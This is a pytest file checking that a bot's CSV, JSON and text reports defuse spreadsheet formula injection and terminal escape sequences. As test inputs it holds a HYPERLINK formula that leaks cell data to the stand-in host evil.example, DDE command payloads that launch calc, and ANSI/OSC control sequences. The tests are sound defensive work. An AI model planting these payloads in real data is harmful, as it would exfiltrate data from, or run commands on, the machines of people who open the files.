"""Reports people open elsewhere are safe there: no CSV cell a spreadsheet would run as a
formula, no control character a terminal would obey."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from bot.kudos.rules import Tally
from bot.reports.formats import (
    CSV_COLUMNS,
    csv_cell,
    render_csv,
    render_json,
    render_kudos_csv,
    render_kudos_text,
    render_text,
)
from bot.reports.rules import DepartmentReport, KudosReport, Report
from bot.weekly.rules import WeeklyResults

UNTIL = datetime(2026, 11, 30, tzinfo=UTC)
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ESCAPES = "\x1b[2J\x1b]0;owned\x07name\x9b31m"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'x"),
        ("a\r\nb\x00c", "a bc"),
        ("Alex", "Alex"),
        ("a=b", "a=b"),
        (-12, -12),
        (4.5, 4.5),
        (None, ""),
    ],
)
def test_a_csv_cell_never_starts_a_formula(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def _department(
    name: str, comments: list[str] | None = None, nps: int | None = None
) -> DepartmentReport:
    return DepartmentReport(
        key="it",
        name=name,
        requests=1,
        open=0,
        resolved=1,
        median_first_response_seconds=60.0,
        median_resolution_seconds=120.0,
        csat=100,
        ratings=1,
        avg_rating=5.0,
        p90_first_response_seconds=60.0,
        p90_resolution_seconds=120.0,
        team_id="T0TEST",
        weekly=WeeklyResults(nps=nps, nps_responses=5, comments=comments or []),
    )


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_kudos_csv_neutralises_names_and_ids() -> None:
    people = [(f"U0{n}", 10 - n) for n in range(len(HOSTILE_NAMES))]
    report = KudosReport(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        tally=Tally(receivers=people, givers=[("=U0X", 1)], shoutouts=3, kudos=10),
        names={user: name for (user, _), name in zip(people, HOSTILE_NAMES, strict=True)},
        departments=[],
    )
    cells = _cells(render_kudos_csv(report))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'" + HOSTILE_NAMES[0] in cells
    assert "'=U0X" in cells


def test_the_department_csv_neutralises_names_and_keeps_negative_numbers() -> None:
    report = Report(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        departments=[_department("=cmd|' /C calc'!A0", nps=-20)],
        weekly_pulse={"week": None, "sent": 0, "answered": 0, "response_rate": None},
        anonymity_minimum=5,
    )
    [row] = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert row["name"] == "'=cmd|' /C calc'!A0"
    assert row["nps"] == "-20"


def test_the_text_reports_show_people_text_without_control_characters() -> None:
    report = Report(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        departments=[_department(f"IT {ESCAPES}", comments=[f"slow {ESCAPES}\nreally"])],
        weekly_pulse={"week": "2026-W44", "sent": 6, "answered": 5, "response_rate": 83},
        anonymity_minimum=5,
    )
    kudos = KudosReport(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        tally=Tally(receivers=[("U0A", 2)], givers=[("U0B", 2)], shoutouts=1, kudos=2),
        names={"U0A": ESCAPES, "U0B": "Bea\x00"},
        departments=[_department(ESCAPES)],
    )
    for text in (render_text(report), render_kudos_text(kudos)):
        assert not any(ch in text for ch in "\x1b\x07\x9b\x00")
    assert "slow [2J ]0;owned name 31m really" in render_text(report)


def test_the_forms_choices_come_after_every_fixed_column_and_in_json_and_text() -> None:
    it = replace(
        _department("IT"),
        field_options={"device": {"Laptop": 3, "Phone": 0, "=Fax": 1}, "floor": {"1": 2}},
    )
    hr = replace(_department("HR"), key="hr", field_options={"device": {"Laptop": 1}})
    plain = replace(_department("Facilities"), key="facilities")
    report = Report(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        departments=[it, hr, plain],
        weekly_pulse={"week": None, "sent": 0, "answered": 0, "response_rate": None},
        anonymity_minimum=5,
    )

    rows = list(csv.reader(io.StringIO(render_csv(report))))
    header = rows[0]
    assert header == [*CSV_COLUMNS, "device=Laptop", "device=Phone", "device==Fax", "floor=1"]
    by_key = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert [by_key["it"][c] for c in header[len(CSV_COLUMNS) :]] == ["3", "0", "1", "2"]
    assert [by_key["hr"][c] for c in header[len(CSV_COLUMNS) :]] == ["1", "", "", ""]
    assert [by_key["facilities"][c] for c in header[len(CSV_COLUMNS) :]] == ["", "", "", ""]
    assert json.loads(render_json(report))["departments"][0]["field_options"] == {
        "device": {"Laptop": 3, "Phone": 0, "=Fax": 1},
        "floor": {"1": 2},
    }
    text = render_text(report)
    assert "  IT, device: Laptop 3, Phone 0, =Fax 1" in text
    assert "  HR, device: Laptop 1" in text
    assert "Facilities, " not in text


def test_without_select_questions_the_reports_are_as_they_were() -> None:
    report = Report(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        departments=[_department("IT")],
        weekly_pulse={"week": None, "sent": 0, "answered": 0, "response_rate": None},
        anonymity_minimum=5,
    )
    assert next(csv.reader(io.StringIO(render_csv(report)))) == CSV_COLUMNS
    assert "select questions" not in render_text(report)
